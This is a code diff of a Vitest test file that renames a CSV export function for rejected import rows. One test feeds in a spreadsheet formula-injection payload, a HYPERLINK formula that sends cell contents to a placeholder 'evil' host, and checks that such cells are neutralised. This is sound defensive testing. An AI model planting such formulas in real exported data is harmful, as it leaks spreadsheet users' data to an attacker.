@@ -1,9 +1,9 @@
 import { expect, it } from 'vitest';
-import { invalidRowsCsv } from './invalid-rows-csv.ts';
+import { rejectedRowsCsv } from './rejected-rows-csv.ts';
 
 it('writes line, reason and the own columns, quoted where needed', () => {
   const rows = [{ row: 2, line: 4, reason: '"ask" is not a phone number', cells: ['ask', 'Acme, Inc.', 'two\nlines'] }];
-  expect(invalidRowsCsv(['Phone', 'Company', 'Note'], rows)).toBe(
+  expect(rejectedRowsCsv(['Phone', 'Company', 'Note'], rows)).toBe(
     '\uFEFFLine,Reason,Phone,Company,Note\r\n4,"""ask"" is not a phone number",ask,"Acme, Inc.","two\nlines"\r\n',
   );
 });
@@ -12,7 +12,7 @@ it('holds no cell that a spreadsheet would run', () => {
   const rows = [
     { row: 2, line: 4, reason: 'Phone is empty', cells: ['', '=HYPERLINK("http://evil/?"&A1)', 'x;@SUM(1)'] },
   ];
-  expect(invalidRowsCsv(['Phone', '=1+1', 'Note'], rows)).toBe(
+  expect(rejectedRowsCsv(['Phone', '=1+1', 'Note'], rows)).toBe(
     `\uFEFFLine,Reason,Phone,"'=1+1",Note\r\n4,Phone is empty,,"'=HYPERLINK(""http://evil/?""&A1)","x;'@SUM(1)"\r\n`,
   );
 });
